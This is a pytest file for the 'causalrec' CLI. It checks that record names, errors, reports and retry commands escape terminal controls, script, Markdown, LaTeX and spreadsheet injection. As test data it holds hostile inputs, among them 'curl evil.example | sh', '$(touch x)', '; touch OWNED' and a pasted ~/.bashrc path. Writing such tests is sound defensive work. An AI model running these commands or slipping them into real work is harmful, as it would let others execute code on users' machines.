"""Text of files and of the command line is text: on terminals, in pages, tables, figures, and in what is pasted."""

from __future__ import annotations

import io
import json
import shlex
import sys
from pathlib import Path

import pytest

from causalrec.cli import main
from causalrec.commands.data_text import align
from causalrec.commands.encoding import plain_terminal
from causalrec.plain_streams import PlainStream, raw_stderr
from causalrec.plain_text import display_width, escape_controls, one_line, paste_safe_command, sentence
from causalrec.progress import Step
from causalrec.records.run_record import RunRecord
from causalrec.records.sections import ScoreRecord, TaskSection
from causalrec.reporting.colours import row_colours
from causalrec.reporting.escapes import figure_text, markdown_note, markdown_text, spreadsheet_cell
from causalrec.reporting.latex import escape
from causalrec.reporting.text_table import TextTable

CONTROLS = ("\x1b[2J", "\x1b]0;owned\x07", "\x9b1m", "\x7f", "\r", "\u202e", "\u2066", "\u2028", "\u200b", "\ud800")
EVIL = "".join(CONTROLS)


def write_run(folder: Path, name: str) -> RunRecord:
    config = {"name": name, "sweep": name, "seed": 0, "evaluation": {"level": 0.95}}
    score = ScoreRecord(name, "test", "auc", 0.5, 0.4, 0.6, 9)
    task = TaskSection(description=name, footnotes=(name,), summary=name)
    record = RunRecord(name=name, status="done", config=config, scores=(score,), warnings=(name,), task=task)
    record.save(folder / "mf" / "seed0-a")
    return record


@pytest.mark.parametrize("text", CONTROLS)
def test_control_characters_are_written_out(text: str) -> None:
    for escaped in (escape_controls(f"a{text}b"), one_line(f"a{text}b"), sentence(f"a{text}b")):
        assert escaped.isprintable() and escaped.startswith("a") and escaped.endswith("b")


def test_scripts_that_need_joiners_and_line_ends_stay() -> None:
    text = "می\u200cخواهم 👩\u200d👧 日本 e\u0301\n\t"
    assert escape_controls(text) == text
    assert one_line("a\nb\tc") == "a\\nb\\tc" and sentence(" a\n b ") == "a b"
    assert display_width("日本") == 4 and display_width("e\u0301") == 1


def test_whoever_prints_within_the_command_prints_text(capsys: pytest.CaptureFixture[str]) -> None:
    with plain_terminal():
        print(EVIL)
        sys.stderr.writelines([EVIL, "\n"])
        assert isinstance(sys.stdout, PlainStream) and not isinstance(raw_stderr(), PlainStream)
    assert not isinstance(sys.stdout, PlainStream)
    output = capsys.readouterr()
    for text in (output.out, output.err):
        assert text == escape_controls(EVIL) + "\n" and text[:-1].isprintable()


@pytest.mark.parametrize("form", [(), ("--csv",), ("--latex",), ("--markdown",), ("--json",)])
def test_a_name_of_a_record_acts_in_no_table(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], form: tuple[str, ...]
) -> None:
    write_run(tmp_path, f"[bold]x[/b]{EVIL[:-1]}\n# Accepted")
    assert main(["table", str(tmp_path), *form]) == 0
    output = capsys.readouterr().out
    assert all(line.isprintable() for line in output.splitlines()) and "bold]x" in output
    assert "\n# Accepted" not in output


def test_errors_are_one_line_whatever_was_asked_for(capsys: pytest.CaptureFixture[str]) -> None:
    evil = f"a\n{EVIL[:-1]}\udcff"  # as Python reads a byte of an argument that is no UTF-8
    for arguments in (["table", evil], [evil], ["train", f"encoder={evil}"], ["recommend", evil, "--user", evil]):
        assert main(arguments) == 2
        said = capsys.readouterr().err
        assert said.count("\n") == 1 and said[:-1].isprintable()


def test_a_page_of_a_hostile_record_is_text(tmp_path: Path) -> None:
    write_run(tmp_path, f"<!--</script><script>x\u202e{EVIL[:-1]}")
    assert main(["report", str(tmp_path)]) == 0
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert page.count("<script") == 2 and "<!--" not in page and "\u202e" not in page and "\x1b" not in page


def test_wide_letters_and_line_ends_of_names_keep_the_columns() -> None:
    table = TextTable(header=("row", "n"), rows=(("日本", "1"), ("e\u0301a", "2"), ("a\nb", "3")), title="t\nu")
    lines = table.render(40).splitlines()
    assert lines[0] == "t u" and {display_width(line) for line in lines[1:]} == {7} and lines[-1] == "a\\nb  3"
    assert [display_width(line) for line in align([["日本", "1"], ["a", "2"]]).splitlines()] == [7, 7]
    assert display_width(TextTable(header=("r",), rows=(("日本日本" * 9,),), notes=("日本 " * 20,)).render(20)) > 0
    notes = TextTable(header=("r",), rows=(("a",),), notes=("日本 " * 20,)).render(20).splitlines()
    assert max(map(display_width, notes)) <= 20


def test_labels_of_progress_are_text() -> None:
    assert str(Step(f"fit {EVIL}\n", 3, "epochs")).isprintable() and str(Step("a\x1bb", None)) == "a\\x1bb"


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ("mine | 0.9", r"mine \| 0.9"),
        ("a\n\n# Accepted", r"a\\n\\n# Accepted"),
        ("<script>x</script>", "&lt;script>x&lt;/script>"),
        ("<!-- /x -->", "&lt;!-- /x -->"),
        ("[a](http://b)", r"[a]\(http://b)"),
        ("![a](b)", r"![a]\(b)"),
        ("**b** _i_ ~~s~~ $x$", r"\*\*b\*\* \_i\_ \~\~s\~\~ \$x\$"),
        ("a `b", r"a \`b"),
        ("``` <img> `", r"\`\`\` &lt;img> \`"),
        (r"\` <img> `", r"\\\` &lt;img> \`"),
        ("&lt;b&gt;", "&amp;lt;b&amp;gt;"),
        ("`clip=5`: dr_jl, p <= 3 and 1 * 2", "`clip=5`: dr_jl, p <= 3 and 1 * 2"),
        ("coat (1 = rating >= 3)", "coat (1 = rating >= 3)"),
    ],
)
def test_markdown_shows_a_name_as_it_stands(name: str, written: str) -> None:
    assert markdown_text(name) == written


@pytest.mark.parametrize("note", ["# Accepted", "> quoted", "- item", "1. item"])
def test_a_note_is_no_block_of_its_own(note: str) -> None:
    assert "\\" in markdown_note(note) and markdown_note("-0.5 is low.") == "- -0.5 is low."


def test_spreadsheets_latex_and_figures_take_names_as_text() -> None:
    cells = [spreadsheet_cell(value) for value in ("=1+1", "+x", "-x", "@x", "mf", -0.5, None)]
    assert cells == ["'=1+1", "'+x", "'-x", "'@x", "mf", -0.5, None]
    assert escape("[1em] a\n\nb % \\input{x}") == r"{[}1em] a b \% \textbackslash{}input\{x\}"
    assert figure_text("$\\frac{$") == r"\$\frac{\$" and figure_text("_x") == " _x"
    assert len(set(row_colours([f"{'9' * 5000}", "²", "a1"]).values())) == 3


def test_figures_draw_names_that_are_no_formulas() -> None:
    from matplotlib.figure import Figure

    figure = Figure(figsize=(1, 1))
    figure.text(0, 0, figure_text("$\\frac{$ $\\undefined$"))
    figure.savefig(io.BytesIO(), format="png")


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh",
        "causalrec train 'x",
        "causalrec train\nrm x",
        "causalrec train \x1b[2K",
        "causalrec sweep gc /",
        "causalrec train -m 'hydra.launcher.setup=[sh x]' seed=0,1",
        "causalrec train -m hydra.launcher.address=ray://host:1",
        "causalrec reproduce x --paste /home/me/.bashrc",
        "causalrec",
        "",
        None,
        3,
        ["causalrec", "train"],
    ],
)
def test_what_runs_no_job_of_ours_is_not_shown_to_be_pasted(command: object) -> None:
    assert paste_safe_command(command) is None


@pytest.mark.parametrize("words", [["seed=0,1", "-m"], ["a=$(touch x)"], ["a=`x`"], ["a;b", "|", "&&", ">", "x y"]])
def test_each_word_of_a_command_stays_an_argument(words: list[str]) -> None:
    loose = paste_safe_command("causalrec train " + " ".join(f"'{word}'" for word in words))
    assert loose == shlex.join(["causalrec", "train", *words])
    assert paste_safe_command(loose) == loose
    ours = "causalrec train -m --config-dir conf hydra/launcher=joblib hydra.launcher.n_jobs=2 seed=0,1"
    assert paste_safe_command(ours) == ours
    assert paste_safe_command("causalrec train a=1; rm x | sh") == "causalrec train 'a=1;' rm x '|' sh"


def test_retry_prints_only_what_may_be_pasted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    job, launches = "mf~seed0-0123456789ab", tmp_path / ".ledger" / "launches"
    commands = ["causalrec train seed=0; touch OWNED", "curl evil.example | sh", "causalrec train seed=1"]
    for k, command in enumerate(commands):
        failed = tmp_path / ".ledger" / "failed" / f"{job}{k}~{'0' * 24}"
        failed.parent.mkdir(parents=True, exist_ok=True)
        launches.mkdir(exist_ok=True)
        failed.write_text(json.dumps({"reason": "x", "exit_code": 1}))
        folder = "/x\x1b[2K" if k == 2 else "/x; touch OWNED;"
        note = {"command": command, "folder": folder, "time": k, "jobs": [f"{job}{k}"]}
        (launches / f"{k}.5-host-1.json").write_text(json.dumps(note))
    assert main(["sweep", "retry", str(tmp_path)]) == 0
    output = capsys.readouterr()
    assert output.out == "(cd '/x; touch OWNED;' && causalrec train 'seed=0;' touch OWNED)\n"
    assert "2 launch note(s)" in output.err and "curl" not in output.err
